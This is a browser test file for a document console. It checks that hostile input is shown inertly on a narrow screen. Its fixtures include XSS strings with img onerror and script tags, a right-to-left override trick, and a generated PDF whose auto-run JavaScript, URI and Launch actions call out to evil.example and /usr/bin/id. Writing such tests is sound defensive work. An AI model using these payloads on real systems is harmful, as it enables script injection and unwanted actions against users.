import { takeSearchTurn, takeTrafficTurn } from '@docaxis/store/console'
import { itWithPrograms, type TestDatabase, testDatabase } from '@docaxis/testkit'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, vi } from 'vitest'
import { type Visit, visit, widerThanScreen } from './support/console-visit.ts'
import { launchChromium } from './support/launch-chromium.ts'
import { letter, sealed } from './support/letter.ts'
import { mailFor } from './support/mail.ts'
import { type TestHub, testHub } from './support/test-hub.ts'

// What strangers write is shown as the text it is, on the narrowest screen: subjects, names, reasons, files.

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })
const it = itWithPrograms('chromium')

/** Markup, a word that turns the line around, letters of no width, and no place to break the line: 500 characters in all. */
const hostile = `<img src=x onerror=alert(1)><script>alert(2)</script>\u202eđảo\u200b${'Ộ'.repeat(440)}`
const hostileName = `<img src=x onerror=alert(3)>\u202e\u200b${'Ủy'.repeat(80)}`
const markup = '<img src=x onerror=alert('

let hub: TestHub
let database: TestDatabase
let browser: Browser
let id: string

beforeAll(async () => {
  database = await testDatabase()
  hub = await testHub({ DOCAXIS_DATABASE_URL: database.connectionString })
  await hub.hub.firstLetters
  const pdf = { name: '<img src=x onerror=alert(4)>\u202efdp.pdf', type: 'application/pdf', content: hostilePdf() }
  const wish = { subject: hostile.slice(0, 500), attachments: [pdf] }
  const sent = await hub.as('G99').send(await sealed(hub, letter(hub, 'G99', ['H99'], wish), 'G99'))
  id = sent.id
  const { deliveryId } = await mailFor(hub, 'H99', sent.documentId)
  await hub.as('H99').status(deliveryId, { code: '02', reason: hostile.slice(0, 300), staff: { name: hostileName } })
  await database.query("update agency set name = $1 where code in ('G99', 'H99')", [hostileName])
  await database.query("update account set name = $1 where login in ('viewer-g99', 'auditor')", [hostileName])
  await takeSearchTurn(database)
  await takeTrafficTurn(database)
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
  await hub?.stop()
  await database?.close()
})

it.each([
  { where: 'the list', login: 'operator', path: () => '/documents', shown: '.subject' },
  { where: 'the document', login: 'operator', path: () => `/documents/${id}`, shown: '.trouble' },
  { where: 'what needs somebody', login: 'operator', path: () => '/', shown: '.attention li' },
  { where: 'the audit log', login: 'auditor', path: () => '/audit?actor=user:auditor', shown: 'tbody tr' },
  { where: 'people', login: 'administrator', path: () => '/settings/people', shown: 'tbody tr' },
  { where: 'certificates', login: 'trust', path: () => '/trust?days=400', shown: '#certificates' },
])('is shown harmlessly in $where', async ({ login, path, shown }) => {
  await using seen = await open(login, path())
  const { page } = seen
  await page.waitForSelector(shown)

  if (login !== 'trust') expect(await page.textContent('.page')).toContain(markup)
  expect(await harmIn(page)).toEqual([])
  expect(seen.faults).toEqual([])
})

it('is shown harmlessly where it was searched for', async () => {
  await using seen = await open('operator', '/documents')
  const { page } = seen
  await page.waitForSelector('.subject')

  await page.fill('.search input', hostileName)
  await page.keyboard.press('Enter')
  await page.waitForURL('**/documents?q=*')
  await page.waitForSelector('.skeleton', { state: 'detached' })

  expect(await page.inputValue('.search input')).toBe(hostileName)
  expect(await harmIn(page)).toEqual([])
  expect(seen.faults).toEqual([])
})

it('does nothing of what a hostile PDF asks for when it is looked at', async () => {
  await using seen = await open('viewer-g99', `/documents/${id}`)
  const { page } = seen
  const inFrame = page.waitForResponse(answer => answer.url().includes('view=frame'))

  await page.click('button:has-text("Xem")')
  const answer = await inFrame
  await answer.finished()

  expect(answer.headers()['content-type']).toBe('application/pdf')
  expect(page.context().pages()).toHaveLength(1)
  expect(new URL(page.url()).pathname).toBe(`/documents/${id}`)
  expect(await harmIn(page)).toEqual([])
  // The browser's own reader loads its own parts.
  expect(seen.faults.filter(fault => !/^chrome(-extension)?:/.test(fault))).toEqual([])
})

async function open(login: string, path: string): Promise<Visit> {
  const seen = await visit(browser, hub, { login, path, browser: { viewport: { width: 360, height: 740 } } })
  const { page, faults } = seen
  page.on('dialog', dialog => {
    ;(faults as string[]).push(`says ${dialog.message()}`)
    void dialog.dismiss()
  })
  return seen
}

/** Elements that only such a text can have made, a line that it turned around beyond itself, a page that it widened. */
async function harmIn(page: Page): Promise<readonly string[]> {
  const made = await page.locator('img[src="x"], script:not([src])').count()
  const turned = await page.evaluate<readonly string[]>(`(() => {
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    const found = []
    while (texts.nextNode()) {
      const { data, parentElement } = texts.currentNode
      if (data.includes('\\u202e') && !parentElement.closest('bdi, title')) found.push(parentElement.outerHTML.slice(0, 80))
    }
    return found
  })()`)
  return [
    ...(made > 0 ? [`${made} elements of its own`] : []),
    ...turned,
    ...((await widerThanScreen(page)) ? ['wider than the screen'] : []),
  ]
}

/** Runs a script, opens an address and starts a program as soon as it is opened, if the reader lets it. */
function hostilePdf(): Buffer {
  const script = 'app.alert(5); app.launchURL("http://evil.example/", true); this.submitForm("http://evil.example/")'
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>>>',
    `<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})/Next 5 0 R>>`,
    '<</S/URI/URI(http://evil.example/)/Next 6 0 R>>',
    '<</S/Launch/F(/usr/bin/id)>>',
  ]
  let body = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = places.map(place => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`
  return Buffer.from(body + end, 'latin1')
}
